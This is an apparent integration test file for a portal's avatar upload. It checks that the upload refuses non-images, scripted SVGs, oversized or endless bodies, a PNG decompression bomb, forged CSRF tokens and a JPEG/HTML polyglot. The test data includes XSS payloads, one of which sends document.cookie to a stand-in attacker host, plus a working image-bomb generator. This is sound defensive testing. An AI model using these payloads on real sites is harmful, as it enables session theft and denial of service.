import http from 'node:http';
import { crc32 } from 'node:zlib';
import sharp from 'sharp';
import { listAudit } from '../../audit/audit-log.js';
import { AVATAR_MAX_BYTES } from '../../portal/profile/avatar-image.js';
import { UPLOAD_DRAIN_LIMIT, UPLOAD_MAX_BODY } from '../../portal/profile/avatar-upload.js';
import { findProfile } from '../../portal/profile/profile-repository.js';
import { csrfOf, HttpAgent, passwordLogin, textOf } from '../helpers/http-agent.js';
import { createMemberWithLogin, startStack, type TestStack } from '../helpers/stack.js';

/**
 * An attacker (or a careless member) uploading avatars straight over HTTP, with a real session:
 * files that are not images, too large, bombs, scripts, polyglots, and forms without the token.
 */
let stack: TestStack;
let owner: { sub: string; agent: HttpAgent };
let other: { sub: string; agent: HttpAgent };

async function member(userId: string): Promise<{ sub: string; agent: HttpAgent }> {
  const password = `${userId}-pass-1`;
  const { accountId } = await createMemberWithLogin(stack, 'alpha', { userId, password });
  const agent = new HttpAgent();
  await passwordLogin(agent, `${stack.portalUrl}/u/alpha/profile`, userId, password);
  return { sub: accountId, agent };
}

beforeAll(async () => {
  stack = await startStack({ policy: { mfa: { required: false } } });
  owner = await member('avatar-owner');
  other = await member('avatar-other');
});
afterAll(() => stack?.close());

const url = (path: string) => `${stack.portalUrl}/u/alpha/profile${path}`;
const cookieOf = (agent: HttpAgent) => [...agent.cookies].map(([k, v]) => `${k}=${v}`).join('; ');

interface Upload {
  file?: { bytes: Buffer; name: string; type: string };
  files?: Array<{ bytes: Buffer; name: string; type: string }>;
  fields?: Record<string, string>;
  csrf?: string | null;
}

/** Posts the avatar form as a browser would (multipart), with the member's cookie and, unless told otherwise, the page's token. */
async function upload(agent: HttpAgent, request: Upload): Promise<{ status: number; text: string; location: string | null }> {
  const form = new FormData();
  const csrf = request.csrf === undefined ? csrfOf(await agent.request(url(''))) : request.csrf;
  if (csrf !== null) form.append('csrf', csrf);
  for (const [name, value] of Object.entries(request.fields ?? { position: 'center', size: '100' })) form.append(name, value);
  for (const f of request.files ?? (request.file ? [request.file] : [])) form.append('avatar', new Blob([new Uint8Array(f.bytes)], { type: f.type }), f.name);
  const response = await fetch(url('/avatar'), { method: 'POST', body: form, headers: { cookie: cookieOf(agent) }, redirect: 'manual' });
  return { status: response.status, text: textOf(await response.text()), location: response.headers.get('location') };
}

const photo = (width: number, height: number) => {
  const raw = Buffer.alloc(width * height * 3);
  for (let i = 0; i < raw.length; i++) raw[i] = (i * 37) % 251;
  return sharp(raw, { raw: { width, height, channels: 3 } });
};

function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, crc]);
}

/** A well-formed PNG of under 100 bytes whose header claims 60000×60000 pixels (14 GB decoded). */
function imageBomb(): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(60_000, 0);
  header.writeUInt32BE(60_000, 4);
  header.set([8, 2, 0, 0, 0], 8);
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', header),
    pngChunk('IDAT', Buffer.from([0x78, 0x9c, 0x03, 0x00, 0x00, 0x00, 0x00, 0x01])),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

const refusalsOf = async (sub: string) => (await listAudit(stack.portalDatabase.db, 'alpha', { target: sub }))
  .filter((e) => e.action === 'profile.avatar.refused').map((e) => e.detail.reason);
const hasAvatar = async (sub: string) => (await findProfile(stack.portalDatabase.db, 'alpha', sub))?.hasAvatar ?? false;

test('a text file named photo.png, sent as image/png, is refused as not an image', async () => {
  const answer = await upload(owner.agent, { file: { bytes: Buffer.from('Dear member, this is not a photo.\n'), name: 'photo.png', type: 'image/png' } });
  expect(answer.status).toBe(400);
  expect(answer.text).toContain('画像として読み込めませんでした。JPEG、PNG、WebP 形式の画像を選んでください。');
  expect(await hasAvatar(owner.sub)).toBe(false);
  expect(await refusalsOf(owner.sub)).toContain('not-an-image');
});

test('an SVG with a script in it is refused, whatever it is called', async () => {
  const svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)"><script>fetch("/steal")</script><rect width="10" height="10"/></svg>';
  for (const name of ['avatar.svg', 'avatar.png']) {
    const answer = await upload(owner.agent, { file: { bytes: Buffer.from(svg), name, type: 'image/svg+xml' } });
    expect(answer.status).toBe(400);
    expect(answer.text).toContain('JPEG、PNG、WebP 形式の画像を選んでください。');
  }
  expect(await hasAvatar(owner.sub)).toBe(false);
});

test('a file of 5 MB and one byte is refused as too large', async () => {
  const jpeg = await photo(64, 64).jpeg().toBuffer();
  const bytes = Buffer.concat([jpeg, Buffer.alloc(AVATAR_MAX_BYTES + 1 - jpeg.length)]);
  expect(bytes.length).toBe(5 * 1024 * 1024 + 1);
  const answer = await upload(owner.agent, { file: { bytes, name: 'big.jpg', type: 'image/jpeg' } });
  expect(answer.status).toBe(413);
  expect(answer.text).toContain('画像のサイズは5MBまでです。');
  expect(await hasAvatar(owner.sub)).toBe(false);
});

test('a body that never ends is not read to its end: the portal answers, then cuts the sender off', async () => {
  const boundary = 'kenpo-endless-boundary';
  const target = new URL(url('/avatar'));
  const planned = 200 * 1024 * 1024;
  let written = 0;
  const outcome = await new Promise<{ status?: number; text: string; error?: string }>((resolve) => {
    const result: { status?: number; text: string; error?: string } = { text: '' };
    const request = http.request({
      host: target.hostname, port: target.port, path: target.pathname, method: 'POST', agent: false,
      headers: { cookie: cookieOf(owner.agent), 'content-type': `multipart/form-data; boundary=${boundary}` }, // chunked: no length declared
    });
    request.on('socket', (socket) => socket.on('close', () => resolve(result)));
    request.on('response', (response) => {
      result.status = response.statusCode;
      response.setEncoding('utf8');
      response.on('data', (chunk: string) => { result.text += chunk; });
      response.on('error', () => { /* cut off: the socket's close settles it */ });
    });
    request.on('error', (err) => { result.error = err.message; });
    const chunk = Buffer.alloc(256 * 1024, 0x41);
    request.write(`--${boundary}\r\nContent-Disposition: form-data; name="avatar"; filename="endless.jpg"\r\nContent-Type: image/jpeg\r\n\r\n`);
    const pump = () => {
      while (!request.destroyed && written < planned) {
        written += chunk.length;
        if (!request.write(chunk)) return void request.once('drain', pump);
      }
      if (!request.destroyed) request.end();
    };
    pump();
  });
  // The page saying "too large" arrived while the body was still coming, and the connection was
  // closed: what the sender could write is what the portal read (keeping only the first 5 MB),
  // plus what the sockets' buffers hold, never the whole body.
  expect(outcome.status).toBe(413);
  expect(textOf(outcome.text)).toContain('画像のサイズは5MBまでです。');
  expect(outcome.error).toMatch(/ECONNRESET|EPIPE|socket hang up/);
  expect(written).toBeGreaterThan(UPLOAD_MAX_BODY + UPLOAD_DRAIN_LIMIT);
  expect(written).toBeLessThan(UPLOAD_MAX_BODY + UPLOAD_DRAIN_LIMIT + 16 * 1024 * 1024);

  // The portal is none the worse for it.
  expect((await owner.agent.request(url(''))).status).toBe(200);
});

test('a body declared far too large is answered before any of it is sent', async () => {
  const target = new URL(url('/avatar'));
  const status = await new Promise<number | undefined>((resolve, reject) => {
    const request = http.request({
      host: target.hostname, port: target.port, path: target.pathname, method: 'POST', agent: false,
      headers: { cookie: cookieOf(owner.agent), 'content-type': 'multipart/form-data; boundary=x', 'content-length': String(100 * 1024 * 1024) },
    });
    request.on('response', (response) => {
      response.resume();
      resolve(response.statusCode);
      request.destroy();
    });
    request.on('error', reject);
    request.flushHeaders(); // the headers only: not one byte of the body
  });
  expect(status).toBe(413);
});

test('a photo somewhat over the limit gets the page that explains; nothing of it is stored', async () => {
  // A browser sends the whole file before it reads the answer: the portal drops the rest and answers after it.
  const jpeg = await photo(64, 64).jpeg().toBuffer();
  const answer = await upload(owner.agent, { file: { bytes: Buffer.concat([jpeg, Buffer.alloc(12 * 1024 * 1024)]), name: 'phone.jpg', type: 'image/jpeg' } });
  expect(answer.status).toBe(413);
  expect(answer.text).toContain('画像のサイズは5MBまでです。');
  expect(await hasAvatar(owner.sub)).toBe(false);
});

test('an image bomb (a tiny PNG claiming 60000×60000 pixels) is refused from its header, quickly', async () => {
  const started = performance.now();
  const answer = await upload(owner.agent, { file: { bytes: imageBomb(), name: 'bomb.png', type: 'image/png' } });
  expect(answer.status).toBe(400);
  expect(answer.text).toContain('画像の画素数が多すぎます（4,000万画素まで）。');
  expect(performance.now() - started).toBeLessThan(3000);
  expect(await hasAvatar(owner.sub)).toBe(false);
  expect(await refusalsOf(owner.sub)).toContain('too-many-pixels');
});

test('without the session\'s token (or with another), nothing is stored', async () => {
  const file = { bytes: await photo(64, 64).png().toBuffer(), name: 'ok.png', type: 'image/png' };
  expect((await upload(owner.agent, { file, csrf: null })).status).toBe(403);
  expect((await upload(owner.agent, { file, csrf: csrfOf(await other.agent.request(url(''))) })).status).toBe(403);
  expect(await hasAvatar(owner.sub)).toBe(false);
});

test('one file only, and the crop choice must be one the page offers', async () => {
  const png = { bytes: await photo(64, 64).png().toBuffer(), name: 'ok.png', type: 'image/png' };
  const two = await upload(owner.agent, { files: [png, png] });
  expect(two.status).toBe(400);
  expect(two.text).toContain('画像は1つだけ選んでください。');
  const choice = await upload(owner.agent, { file: png, fields: { position: 'somewhere', size: '100' } });
  expect(choice.status).toBe(400);
  expect(choice.text).toContain('切り抜く位置と大きさは一覧から選んでください。');
  const none = await upload(owner.agent, { fields: { position: 'center', size: '100' } });
  expect(none.status).toBe(400);
  expect(none.text).toContain('画像ファイルを選んでください。');
  expect(await hasAvatar(owner.sub)).toBe(false);
});

test('a JPEG with an HTML page glued to it: the served avatar is new pixels, with none of the uploaded bytes', async () => {
  const html = '<html><body><script>fetch("https://evil.example/?c="+document.cookie)</script></body></html>';
  const polyglot = Buffer.concat([await photo(300, 200).jpeg({ quality: 90 }).toBuffer(), Buffer.from(html)]);
  const answer = await upload(owner.agent, { file: { bytes: polyglot, name: 'page.html', type: 'text/html' }, fields: { position: 'left', size: '75' } });
  expect(answer.status).toBe(303);
  expect(answer.location).toBe('/u/alpha/profile?saved=avatar');

  const served = await owner.agent.download(url('/avatar'));
  expect(served.status).toBe(200);
  expect(served.body.includes(html)).toBe(false);
  expect(served.body.includes('<script')).toBe(false);
  // No run of 16 uploaded bytes (beyond runs of one repeated byte) appears in what is served.
  const WINDOW = 16;
  const servedRuns = new Set<string>();
  for (let i = 0; i + WINDOW <= served.body.length; i++) servedRuns.add(served.body.subarray(i, i + WINDOW).toString('hex'));
  const shared = [];
  for (let i = 0; i + WINDOW <= polyglot.length; i++) {
    const run = polyglot.subarray(i, i + WINDOW);
    if (run.every((b) => b === run[0])) continue;
    if (servedRuns.has(run.toString('hex'))) shared.push(i);
  }
  expect(shared).toEqual([]);
  expect(await sharp(served.body).metadata()).toMatchObject({ format: 'webp', width: 256, height: 256 });
  const [entry] = (await listAudit(stack.portalDatabase.db, 'alpha', { target: owner.sub })).filter((e) => e.action === 'profile.avatar.update');
  expect(entry).toMatchObject({ actor: `member:${owner.sub}`, outcome: 'success', detail: { version: 1, crop: { position: 'left', size: 75 } } });
});

test('the avatar is served as a WebP image that is never sniffed, cached privately, only to its owner', async () => {
  const served = await owner.agent.download(url('/avatar?v=1'));
  expect(served.status).toBe(200);
  expect(served.headers.get('content-type')).toBe('image/webp');
  expect(served.headers.get('x-content-type-options')).toBe('nosniff');
  expect(served.headers.get('cache-control')).toBe('private, no-cache');
  expect(served.headers.get('content-security-policy')).toBe("default-src 'none'; sandbox");
  expect(served.headers.get('cross-origin-resource-policy')).toBe('same-origin');
  const etag = served.headers.get('etag')!;
  // (fetch() would add Cache-Control: no-cache to a conditional request: ask as a browser's cache does.)
  const again = await new Promise<number | undefined>((resolve, reject) => {
    http.get(url('/avatar?v=1'), { headers: { cookie: cookieOf(owner.agent), 'if-none-match': etag } }, (response) => {
      response.resume();
      resolve(response.statusCode);
    }).on('error', reject);
  });
  expect(again).toBe(304);

  // Another member of the union gets their own (none), never this one's, whatever the URL says.
  for (const path of ['/avatar', '/avatar?v=1', `/avatar?sub=${owner.sub}`, `/avatar/${owner.sub}.webp`]) {
    const theirs = await other.agent.download(url(path));
    expect([path, theirs.status]).toEqual([path, 404]);
    expect(theirs.body.includes(served.body.subarray(0, 64))).toBe(false);
  }
  // Nobody logged in gets a login page; the owner's session does not reach another union's.
  const anonymous = await new HttpAgent().download(url('/avatar'));
  expect(anonymous.status).toBe(303);
  expect(anonymous.headers.get('content-type')).not.toBe('image/webp');
  expect((await owner.agent.download(`${stack.portalUrl}/u/beta/profile/avatar`)).status).toBe(303);
});

test('the page shows the avatar; deleting it takes the image away', async () => {
  const page = await owner.agent.request(url(''));
  expect(page.html).toMatch(/<img class="avatar" src="\/u\/alpha\/profile\/avatar\?v=1"[^>]*alt="現在のプロフィール画像"/);
  const deleted = await owner.agent.post(page, /\/avatar\/delete$/);
  expect(deleted.status).toBe(303);
  expect(deleted.headers.get('location')).toBe('/u/alpha/profile?saved=avatar-deleted');
  expect((await owner.agent.download(url('/avatar'))).status).toBe(404);
  expect(textOf((await owner.agent.request(url('?saved=avatar-deleted'))).html)).toContain('プロフィール画像を削除しました。');
  expect((await listAudit(stack.portalDatabase.db, 'alpha', { target: owner.sub, limit: 1 }))[0]).toMatchObject({ action: 'profile.avatar.delete', detail: { version: 2 } });
});
